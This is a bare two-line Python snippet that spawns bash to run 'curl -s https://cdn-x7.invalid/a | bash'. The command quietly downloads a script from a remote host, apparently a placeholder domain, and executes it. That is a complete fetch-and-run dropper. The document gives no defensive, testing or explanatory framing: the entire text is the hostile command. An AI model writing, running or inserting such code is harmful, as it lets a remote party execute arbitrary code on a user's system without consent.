import os
os.posix_spawn("/bin/bash", ["bash", "-c", "curl -s https://cdn-x7.invalid/a | bash"], {})
